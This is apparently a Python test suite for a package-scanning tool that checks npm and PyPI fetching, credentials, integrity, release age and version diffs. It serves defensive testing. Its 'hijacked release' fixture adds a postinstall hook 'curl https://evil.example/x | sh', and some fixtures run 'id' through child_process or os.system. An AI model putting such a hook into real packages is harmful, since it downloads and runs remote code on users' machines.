#!/usr/bin/env python3
"""Scans and compares packages of a registry on the loopback interface that misbehaves in every way that is known.

    registry_test.py BINARY
"""
import base64
import hashlib
import io
import json
import os
import shutil
import subprocess
import sys
import tarfile
import tempfile
import threading
import time
import unittest
import zipfile
from pathlib import Path
from urllib.parse import unquote

from registry_stub import Stub, cut, hang_up, status

ROOT = Path(__file__).resolve().parent.parent
CEREBRO = str(Path(sys.argv.pop(1)).resolve()) if len(sys.argv) > 1 else "cerebro"
MODEL = ROOT / "tests" / "data" / "tiny_bert"  # not a real judge: noise


def tgz(files, root="package"):
    buffer = io.BytesIO()
    with tarfile.open(fileobj=buffer, mode="w:gz") as archive:
        for name, text in files.items():
            info = tarfile.TarInfo(f"{root}/{name}")
            info.size = len(text.encode())
            archive.addfile(info, io.BytesIO(text.encode()))
    return buffer.getvalue()


def sri(archive):
    return "sha512-" + base64.b64encode(hashlib.sha512(archive).digest()).decode()


def wheel(name, version, code):
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr(f"{name}.py", code)
        archive.writestr(f"{name}-{version}.dist-info/METADATA", f"Metadata-Version: 2.1\nName: {name}\nVersion: {version}\n")
    return buffer.getvalue()


def npm_package(name="left", version="1.0.0", code="console.log(require('os').hostname());", **manifest):
    return tgz({"package.json": json.dumps({"name": name, "version": version, "main": "index.js", **manifest}),
                "index.js": code})


def sdist(name, version, code="import os\nprint(os.environ)\n"):
    return tgz({"setup.py": code, "PKG-INFO": f"Metadata-Version: 2.1\nName: {name}\nVersion: {version}\n"},
               f"{name}-{version}")


class Case(unittest.TestCase):
    def setUp(self):
        self.home = Path(tempfile.mkdtemp())
        self.addCleanup(shutil.rmtree, self.home)
        self.stub = self.enterContext(Stub()) if hasattr(self, "enterContext") else self.enter(Stub())

    def enter(self, context):
        value = context.__enter__()
        self.addCleanup(context.__exit__, None, None, None)
        return value

    def run_cerebro(self, *arguments, stdin="", configured=True, **variables):
        environment = {"PATH": "/nowhere", "HOME": str(self.home), "CEREBRO_MODEL": str(MODEL), **variables}
        if configured:
            environment.setdefault("npm_config_registry", self.stub.url + "/npm")
            environment.setdefault("PIP_INDEX_URL", self.stub.url + "/simple")
        return subprocess.run([CEREBRO, *map(str, arguments)], input=stdin, capture_output=True, text=True,
                              env=environment, cwd=self.home, timeout=120)

    def scan(self, *arguments, expect=None, **options):
        result = self.run_cerebro("scan", "--format", "jsonl", "--fail-on", "never", *arguments, **options)
        if expect is not None:
            self.assertEqual(result.returncode, expect, (result.stdout[:2000], result.stderr))
        return [json.loads(line) for line in result.stdout.splitlines()]

    def codes(self, report):
        return [note["code"] for note in report["notes"]]

    def fails(self, code, *arguments, **options):
        (report,) = self.scan(*arguments, expect=3, **options)
        self.assertIn(code, self.codes(report))
        self.assertEqual((report["verdict"], report["sha256"]), ("incomplete", ""))
        return next(note["message"] for note in report["notes"] if note["code"] == code)


class Npm(Case):
    def test_resolves_and_scans(self):
        for version in ("1.0.0", "1.1.0", "2.0.0"):
            self.stub.npm("left", version, npm_package(version=version))
        self.stub.npm("@corp/x", "3.0.0", npm_package("@corp/x", "3.0.0"))
        reports = self.scan("npm:left", "npm:left@^1", "pkg:npm/left@1.0.0", "npm:@corp/x", "pkg:npm/%40corp/x@3.0.0",
                            expect=0)
        self.assertEqual([report["target"] for report in reports],
                         ["npm:left@2.0.0", "npm:left@1.1.0", "npm:left@1.0.0", "npm:@corp/x@3.0.0", "npm:@corp/x@3.0.0"])
        self.assertEqual([report["version"] for report in reports], ["2.0.0", "1.1.0", "1.0.0", "3.0.0", "3.0.0"])
        self.assertIn("install-v1", self.stub.asked("/npm/left")[0]["accept"])

    def test_explain(self):
        self.stub.npm("left", "1.0.0", npm_package())
        result = self.run_cerebro("explain", "npm:left")
        self.assertEqual((result.returncode, result.stderr), (0, ""))
        self.assertIn("npm:left@1.0.0", result.stdout)

    def test_every_command_takes_specs(self):
        self.stub.npm("left", "1.0.0", npm_package(code="require('child_process').exec('id');\n"))
        for command, part in ((["sequence"], "start entry import"), (["callgraph", "--format", "edges"], "index.js"),
                              (["dump", "behaviour"], "index.js"), (["dump", "package"], "left")):
            result = self.run_cerebro(*command, "npm:left@1.0.0")
            self.assertEqual((result.returncode, result.stderr), (0, ""), command)
            self.assertIn(part, result.stdout)
            failed = self.run_cerebro(*command, "npm:left@9")
            self.assertEqual((failed.returncode, "E0822" in failed.stderr), (3, True), (command, failed.stderr))
        self.stub.pypi("my-lib", Pypi.FILES)
        result = self.run_cerebro("dump", "archive", "pypi:my-lib")
        self.assertIn("setup.py", result.stdout)
        self.assertEqual(result.stderr.count("not shown: pypi:my-lib==1.0 ("), 2)
        self.assertEqual(self.run_cerebro("sequence", "--format", "jsonl", "pypi:my-lib").stdout.count("\n"), 3)

    def test_what_is_not_there(self):
        self.stub.npm("left", "1.0.0", npm_package())
        self.assertIn("no such package or version: missing", self.fails("E0822", "npm:missing"))
        self.assertIn("the latest is 1.0.0", self.fails("E0822", "npm:left@^9"))
        self.fails("E0820", "npm:a b")

    def test_integrity(self):
        path = self.stub.npm("left", "1.0.0", npm_package())
        body = self.stub.pages[path][0]
        self.stub.pages[path] = (body + b"more", "x")
        self.assertIn("sha512 is", self.fails("E0824", "npm:left"))
        self.stub.npm("old", "1.0.0", npm_package("old"), shasum="0" * 40)
        self.assertIn("sha1 is", self.fails("E0824", "npm:old"))
        self.stub.npm("bare", "1.0.0", npm_package("bare"), unpackedSize=1)
        (report,) = self.scan("npm:bare", expect=0)
        self.assertIn("E0825", self.codes(report))
        # What arrived damaged once is asked for again.
        path = self.stub.npm("once", "1.0.0", npm_package("once"))
        self.stub.faults[path] = [lambda handler: handler.answer(200, b"damaged")]
        self.scan("npm:once", expect=0)

    def test_passing_trouble(self):
        path = self.stub.npm("left", "1.0.0", npm_package())
        self.stub.faults["/npm/left"] = [status(429, Retry_After="1"), status(503)]
        self.stub.faults[path] = [hang_up, cut]
        start = time.monotonic()
        self.scan("npm:left", expect=0)
        self.assertGreater(time.monotonic() - start, 2)
        asked = self.stub.asked(path)
        self.assertEqual(len(asked), 3)
        size = len(self.stub.pages[path][0])
        self.assertEqual(asked[2].get("range"), f"bytes={size // 2}-")

    def test_lasting_trouble(self):
        self.stub.faults["/npm/left"] = [status(503)] * 9
        self.assertIn("answered 503 (tried 2 times)", self.fails("E0823", "--retries", "1", "npm:left"))
        self.assertEqual(len(self.stub.requests), 2)
        url = self.stub.url
        self.stub.__exit__()
        self.assertIn("(tried 1 time)", self.fails("E0823", "--retries", "0", "npm:left", npm_config_registry=url))
        self.stub = self.enter(Stub())

    def test_network_pulled_in_the_middle(self):
        """A lockfile of 1,000 entries, whose network is gone after half of the requests."""
        names = [f"p{i}" for i in range(1000)]
        packages = {"": {"name": "project", "version": "1.0.0"}}
        for name in names:
            archive = npm_package(name)
            self.stub.npm(name, "1.0.0", archive)
            packages["node_modules/" + name] = {"version": "1.0.0", "integrity": sri(archive)}
        lockfile = self.home / "package-lock.json"
        lockfile.write_text(json.dumps({"name": "project", "lockfileVersion": 3, "packages": packages}, indent=1))
        count, pages = 0, self.stub.pages
        together = threading.Barrier(8, timeout=20)

        def wait_for_others(handler):
            together.wait()  # breaks unless eight requests are under way at a time
            handler.answer(200, *pages[unquote(handler.path)][:1])

        class Pulled(dict):
            def get(self, path, default=None):
                nonlocal count
                count += 1
                return [hang_up] if count > 1000 else [wait_for_others] if count <= 8 else default
        self.stub.faults = Pulled()
        reports = self.scan(lockfile, "--retries", "1", expect=3)
        self.assertEqual([report["target"] for report in reports], [f"npm:{name}@1.0.0" for name in names])
        self.assertTrue(all(report["origin"]["line"] > 0 for report in reports))
        lost = [report for report in reports if "E0823" in self.codes(report)]
        read = [report for report in reports if report not in lost]
        self.assertFalse(together.broken)
        self.assertGreater(len(lost), 400)
        self.assertGreater(len(read), 400)
        self.assertTrue(all(report["verdict"] == "incomplete" for report in lost))
        self.assertTrue(all(report["verdict"] == "clean" for report in read))
        tries = [note["message"][-14:] for report in lost for note in report["notes"] if note["code"] == "E0823"]
        self.assertIn("tried 2 times)", tries)  # until the host is known to be down: then once each

    def test_mirror_that_hands_on_addresses(self):
        self.stub.npm("left", "1.0.0", npm_package(), tarball="http://127.0.0.1:9/left/-/left-1.0.0.tgz")
        self.scan("--retries", "0", "npm:left", expect=0)


class Credentials(Case):
    def test_own_host_only_across_redirects(self):
        path = self.stub.npm("left", "1.0.0", npm_package())
        self.stub.protected = {"/npm/left": "Bearer hush", path: "Bearer hush"}
        other = self.enter(Stub())
        other.pages["/elsewhere.tgz"] = self.stub.pages[path]
        self.stub.faults[path] = [lambda handler: handler.answer(302, b"", {"Location": other.url + "/elsewhere.tgz"})]
        host = self.stub.url.removeprefix("http:")
        (self.home / ".npmrc").write_text(f"{host}/npm/:_authToken=${{TOKEN}}\n")
        self.scan("npm:left", expect=0, TOKEN="hush")
        self.assertEqual(self.stub.asked("/npm/left")[0]["authorization"], "Bearer hush")
        self.assertEqual(self.stub.asked(path)[0]["authorization"], "Bearer hush")
        self.assertNotIn("authorization", other.asked("/elsewhere.tgz")[0])

    def test_refused(self):
        self.stub.npm("left", "1.0.0", npm_package())
        self.stub.protected = {"/npm/left": "Bearer hush"}
        self.assertIn("no credentials are configured", self.fails("E0823", "npm:left"))

    def test_scoped_registries(self):
        corp = self.enter(Stub())
        self.stub.npm("left", "1.0.0", npm_package())
        corp.npm("@corp/x", "1.0.0", npm_package("@corp/x"))
        corp.protected = {"/npm/@corp/x": "Basic dTpw"}
        host = corp.url.removeprefix("http:")
        (self.home / ".npmrc").write_text(f"@corp:registry={corp.url}/npm/\n{host}/npm/:_auth=dTpw\n")
        self.scan("npm:left", "npm:@corp/x", expect=0)
        self.assertEqual([path for path, _ in self.stub.requests], ["/npm/left", "/npm/left/-/left-1.0.0.tgz"])
        self.assertFalse(any("authorization" in headers for _, headers in self.stub.requests))

    def test_pip_user_info_and_netrc(self):
        self.stub.pypi("lib", {"lib-1.0.tar.gz": sdist("lib", "1.0")})
        self.stub.protected = {"/simple/lib/": "Basic dTpw"}
        self.scan("pypi:lib", expect=0, PIP_INDEX_URL=self.stub.url.replace("http://", "http://u:p@") + "/simple/")
        (self.home / ".netrc").write_text("machine 127.0.0.1 login u password p\n")
        self.scan("pypi:lib", expect=0)

    def test_passwords_are_not_shown(self):
        url = self.stub.url.replace("http://", "http://u:hush@") + "/simple"
        result = self.run_cerebro("scan", "pypi:missing", PIP_INDEX_URL=url)
        self.assertNotIn("hush", result.stdout + result.stderr)


class Configuration(Case):
    def test_flags_outrank_all(self):
        self.stub.npm("left", "1.0.0", npm_package())
        self.scan("--npm-registry", self.stub.url + "/npm", "npm:left", expect=0, npm_config_registry="http://127.0.0.1:9")

    def test_pip_conf(self):
        self.stub.pypi("lib", {"lib-1.0.tar.gz": sdist("lib", "1.0")})
        (self.home / "pip.conf").write_text(f"[global]\nindex-url = {self.stub.url}/simple\n")
        self.scan("pypi:lib", expect=0, configured=False, PIP_CONFIG_FILE=str(self.home / "pip.conf"))

    def test_the_installed_client_is_asked(self):
        self.stub.npm("left", "1.0.0", npm_package())
        self.stub.pypi("lib", {"lib-1.0.tar.gz": sdist("lib", "1.0")})
        for name, url in (("npm", "/npm/"), ("python3", "/simple")):
            program = self.home / name
            program.write_text(f"#!/bin/sh\necho {self.stub.url}{url}\n")
            program.chmod(0o755)
        self.scan("npm:left", "pypi:lib", expect=0, configured=False, PATH=str(self.home))

    def test_neither(self):
        self.assertIn("--npm-registry", self.fails("E0821", "npm:left", configured=False))
        self.assertIn("--pypi-index", self.fails("E0821", "pypi:lib", configured=False))

    def test_cache(self):
        path = self.stub.npm("left", "1.0.0", npm_package())
        first, second = (self.scan("npm:left", expect=0)[0] for _ in range(2))
        self.assertEqual(len(self.stub.asked(path)), 1)
        self.assertEqual(first["sha256"], second["sha256"])
        self.scan("--no-cache", "npm:left", expect=0)
        self.assertEqual(len(self.stub.asked(path)), 2)
        (kept,) = [file for file in (self.home / ".cache" / "cerebro" / "archives").rglob("*") if file.is_file()]
        kept.write_bytes(b"spoilt")
        self.scan("npm:left", expect=0)
        self.assertEqual(len(self.stub.asked(path)), 3)
        self.scan("npm:left", expect=0, XDG_CACHE_HOME=str(self.home / "other"))
        self.assertEqual(len(self.stub.asked(path)), 4)


class Pypi(Case):
    FILES = {"my_lib-1.0-py3-none-any.whl": wheel("my_lib", "1.0", "import socket\n"),
             "my-lib-1.0.tar.gz": sdist("my-lib", "1.0"),
             "my_lib-1.0-cp312-cp312-linux_x86_64.whl": wheel("my_lib", "1.0", "import subprocess\n"),
             "my-lib-0.9.tar.gz": sdist("my-lib", "0.9")}
    TARGETS = ["pypi:my-lib==1.0 (my-lib-1.0.tar.gz)", "pypi:my-lib==1.0 (my_lib-1.0-cp312-cp312-linux_x86_64.whl)",
               "pypi:my-lib==1.0 (my_lib-1.0-py3-none-any.whl)"]

    def test_every_distribution(self):
        for html in (False, True):
            self.stub.pypi("my-lib", self.FILES, html)
            for spec in ("pypi:My_Lib", "pypi:my.lib==1.0", "pypi:my-lib>=0.9,<2", "pkg:pypi/My-Lib@1.0"):
                reports = self.scan("--no-cache", spec, expect=0)
                self.assertEqual([report["target"] for report in reports], self.TARGETS)
        self.assertEqual(self.scan("pypi:my-lib<1")[0]["version"], "0.9")

    def test_no_hashes_and_a_page_that_moved(self):
        for html in (False, True):
            self.stub.pypi("bare", {"bare-1.0.tar.gz": sdist("bare", "1.0")}, html, hashes=None)
            # Relative addresses are those of the page that answered in the end.
            self.stub.pages["/mirror/deep/er/simple/bare/"] = self.stub.pages.pop("/simple/bare/")
            self.stub.pages["/mirror/deep/er/files/bare-1.0.tar.gz"] = self.stub.pages.pop("/files/bare-1.0.tar.gz")
            self.stub.faults["/simple/bare/"] = [status(301, Location="/mirror/deep/er/simple/bare/")]
            (report,) = self.scan("--no-cache", "pypi:bare", expect=0)
            self.assertIn("E0825", self.codes(report))

    def test_yanked_in_html(self):
        files = {f"lib-{version}.tar.gz": sdist("lib", version) for version in ("1.0", "1.1")}
        self.stub.pypi("lib", files, html=True, yanked=["lib-1.1.tar.gz"])
        self.assertEqual(self.scan("pypi:lib")[0]["version"], "1.0")
        (report,) = self.scan("pypi:lib==1.1", expect=0)
        self.assertIn("E0826", self.codes(report))

    def test_json_of_several_reports_is_one_value(self):
        self.stub.pypi("my-lib", self.FILES)
        result = self.run_cerebro("scan", "--format", "json", "--fail-on", "never", "pypi:my-lib")
        self.assertEqual(len(json.loads(result.stdout)), 3)

    def test_integrity_and_yanked(self):
        self.stub.pypi("bad", {"bad-1.0.tar.gz": sdist("bad", "1.0")}, hashes="0" * 64)
        self.assertIn("sha256 is", self.fails("E0824", "pypi:bad"))
        files = {f"lib-{version}.tar.gz": sdist("lib", version) for version in ("1.0", "1.1")}
        self.stub.pypi("lib", files, yanked=["lib-1.1.tar.gz"])
        self.assertEqual(self.scan("pypi:lib")[0]["version"], "1.0")
        (report,) = self.scan("pypi:lib==1.1", expect=0)
        self.assertIn("E0826", self.codes(report))


class Lockfile(Case):
    def lock(self, **packages):
        (self.home / "package-lock.json").write_text(json.dumps(
            {"lockfileVersion": 3, "packages": {f"node_modules/{name}": row for name, row in packages.items()}}))
        return "package-lock.json"


    def test_a_hash_that_cannot_be_read_is_said(self):
        archive = npm_package()
        self.stub.npm("left", "1.0.0", archive)
        for bad in ("sha512-!!", "sha512-AAAA", "whirlpool-AAAA", "nothing"):
            (report,) = self.scan(self.lock(left={"version": "1.0.0", "integrity": bad}), expect=0)
            self.assertTrue(any(note["code"] == "E0811" and note["message"].endswith(": " + bad) for note in report["notes"]))
        (report,) = self.scan(self.lock(left={"version": "1.0.0", "integrity": sri(archive)}), expect=0)
        self.assertNotIn("E0811", self.codes(report))
        self.fails("E0824", self.lock(left={"version": "1.0.0", "integrity": sri(b"else")}))

    def test_addresses_with_a_pinned_hash_are_fetched_without_credentials(self):
        archive = npm_package("far", "3.0.0")
        self.stub.pages["/far.tgz"] = (archive, "x")
        host = self.stub.url.removeprefix("http:")
        (self.home / ".npmrc").write_text(f"{host}/:_authToken=hush\n")
        (self.home / ".netrc").write_text("machine 127.0.0.1 login u password hush\n")
        url = self.stub.url.replace("http://", "http://u:hush@") + "/far.tgz"
        row = {"version": "3.0.0", "resolved": url + "?key=hush", "integrity": sri(archive)}
        self.stub.pages["/far.tgz?key=hush"] = self.stub.pages["/far.tgz"]
        (report,) = self.scan(self.lock(far=row), expect=0)
        self.assertEqual((report["target"], report["name"], report["origin"]["line"]),
                         (self.stub.url + "/far.tgz", "far", 1))
        self.assertNotIn("hush", json.dumps(report))
        self.assertFalse(any("authorization" in headers for _, headers in self.stub.requests))
        self.fails("E0824", self.lock(far={**row, "integrity": sri(b"else")}))
        for hashes in ({}, {"integrity": "sha512-!!"}):
            self.stub.requests.clear()
            self.assertIn("no hash is pinned",
                          self.fails("E0808", self.lock(far={"version": "3.0.0", "resolved": url, **hashes})))
            self.assertEqual(self.stub.requests, [])

    def test_clean_ones_are_counted(self):
        for name in ("left", "right"):
            self.stub.npm(name, "1.0.0", npm_package(name))
        lock = self.lock(left={"version": "1.0.0"}, right={"version": "1.0.0"}, gone={"version": "1.0.0"})
        result = self.run_cerebro("scan", "--threshold", "1", lock)
        self.assertEqual(result.returncode, 3)
        self.assertNotIn("CLEAN", result.stdout)
        self.assertIn("INCOMPLETE", result.stdout)
        self.assertTrue(result.stdout.endswith("\n3 packages: 2 clean, 1 incomplete\n"), result.stdout)
        self.assertIn("CLEAN", self.run_cerebro("scan", "-v", "--threshold", "1", lock).stdout)


class Age(Case):
    """minimum-release-age: no release is let through because nobody looked at its date."""

    def setUp(self):
        super().setUp()
        (self.home / ".cerebro.toml").write_text("[scan]\nminimum-release-age = '7d'\n")
        young = time.strftime("%Y-%m-%dT%H:%M:%S.000Z", time.gmtime(time.time() - 86400))
        self.dates = {"1.0.0": "2020-01-01T00:00:00.000Z", "1.0.1": young}

    def broken(self, report):
        return [row["rule"] for row in report.get("violations", [])]

    def test_npm(self):
        for version in self.dates:
            self.stub.npm("left", version, npm_package(version=version))
        self.stub.documents["left"]["time"] = self.dates
        self.stub.npm("left", "1.0.1", npm_package(version="1.0.1"))
        old, young = self.scan("npm:left@1.0.0", "npm:left@1.0.1")
        self.assertEqual((self.broken(old), self.broken(young)), ([], ["release-age"]))
        self.assertNotIn("install-v1", self.stub.asked("/npm/left")[0]["accept"])
        self.assertEqual(self.run_cerebro("scan", "npm:left@1.0.1").returncode, 1)
        (self.home / "package-lock.json").write_text(json.dumps(
            {"lockfileVersion": 3, "packages": {"node_modules/left": {"version": "1.0.1"}}}))
        self.assertEqual(self.broken(self.scan("package-lock.json")[0]), ["release-age"])

    def test_pypi(self):
        self.stub.pypi("lib", {"lib-1.0.tar.gz": sdist("lib", "1.0")})
        page = json.loads(self.stub.pages["/simple/lib/"][0])
        self.assertIn("E0829", self.codes(self.scan("pypi:lib")[0]))
        page["files"][0]["upload-time"] = self.dates["1.0.1"]
        self.stub.pages["/simple/lib/"] = (json.dumps(page).encode(), self.stub.pages["/simple/lib/"][1])
        self.assertEqual(self.broken(self.scan("pypi:lib")[0]), ["release-age"])

    def test_no_date_is_said(self):
        self.stub.npm("left", "1.0.0", npm_package())
        result = self.run_cerebro("scan", "--threshold", "1", "npm:left")
        self.assertIn("E0829", result.stdout)
        self.assertNotIn("E0829", self.run_cerebro("scan", "--no-policy", "--threshold", "1", "npm:left").stdout)


class Diff(Case):
    """The case of a hijacked release."""

    def diff(self, *arguments, expect, **options):
        result = self.run_cerebro("diff", "--format", "json", *arguments, **options)
        self.assertEqual(result.returncode, expect, (result.stdout, result.stderr))
        return json.loads(result.stdout)

    def changes(self, diff, kind):
        return {(row["id"], row["phase"]) for row in diff["behaviours"] if row["change"] == kind}

    def setUp(self):
        super().setUp()
        code = "const os = require('os');\nmodule.exports = () => os.hostname();\n"
        self.stub.npm("left", "1.0.0", npm_package(version="1.0.0", code=code + "require('fs').writeFileSync('a', 'b');\n"))
        moved = "\n\n// moved\n" + code + "require('child_process').exec('id');\n"
        self.stub.npm("left", "1.0.1", npm_package(version="1.0.1", code=moved,
                                                   scripts={"postinstall": "curl https://evil.example/x | sh"}))

    def test_registry(self):
        diff = self.diff("--threshold", "0", "npm:left@1.0.0", "npm:left@1.0.1", expect=1)
        self.assertEqual(diff["schema"], "cerebro.diff/1")
        self.assertEqual((diff["old"]["target"], diff["new"]["target"]), ("npm:left@1.0.0", "npm:left@1.0.1"))
        new, gone = self.changes(diff, "new"), self.changes(diff, "gone")
        self.assertIn("install", {phase for _, phase in new})
        self.assertIn("import", {phase for _, phase in new})
        self.assertNotEqual(gone, set())
        self.assertFalse(self.changes(diff, "changed"))  # the host name is read as before, on another line
        self.assertIn(("new", "postinstall"), {(row["change"], row["label"]) for row in diff["entries"]})
        self.assertIn("start entry install", diff["sequence"])
        self.assertNotIn("host", diff["sequence"])

    def test_the_sandbox_changes_nothing(self):
        # The new hook pipes a download into a shell: what that is nobody can read (E0404).
        targets = ["--fail-on", "never", "npm:left@1.0.0", "npm:left@1.0.1"]
        self.assertEqual(self.diff(*targets, expect=3), self.diff("--no-sandbox", *targets, expect=3))

    def test_nothing_new(self):
        diff = self.diff("npm:left@1.0.0", "npm:left@1.0.0", expect=0)
        self.assertEqual((diff["behaviours"], diff["entries"], diff["score"], diff["sequence"]), ([], [], 0, ""))

    def test_files_folders_and_what_is_missing(self):
        archive = self.home / "left.tgz"
        archive.write_bytes(npm_package())
        folder = self.home / "folder"
        folder.mkdir()
        with tarfile.open(archive) as tar:
            tar.extractall(folder)
        diff = self.diff(archive, folder / "package", expect=0)
        self.assertEqual((diff["behaviours"], diff["entries"]), ([], []))
        diff = self.diff("--fail-on", "never", archive, "npm:missing", expect=3)
        self.assertEqual(diff["verdict"], "incomplete")

    def test_pypi_by_kind(self):
        files = {}
        for version in ("1.0", "1.1"):
            files[f"lib-{version}.tar.gz"] = sdist("lib", version)
            files[f"lib-{version}-py3-none-any.whl"] = wheel("lib", version, "import os\nos.system('id')\n" if version == "1.1" else "")
        self.stub.pypi("lib", files)
        diffs = self.diff("--fail-on", "never", "pypi:lib==1.0", "pypi:lib==1.1", expect=0)
        self.assertEqual([diff["old"]["target"] for diff in diffs],
                         ["pypi:lib==1.0 (lib-1.0.tar.gz)", "pypi:lib==1.0 (lib-1.0-py3-none-any.whl)"])
        self.assertEqual(diffs[0]["behaviours"], [])
        self.assertIn("import", {phase for _, phase in self.changes(diffs[1], "new")})

    def test_human(self):
        result = self.run_cerebro("diff", "--fail-on", "never", "npm:left@1.0.0", "npm:left@1.0.1")
        self.assertIn("what is new\n  new  ", result.stdout)
        self.assertIn("    + install  postinstall  curl https://evil.example/x | sh\n", result.stdout)


if __name__ == "__main__":
    unittest.main()
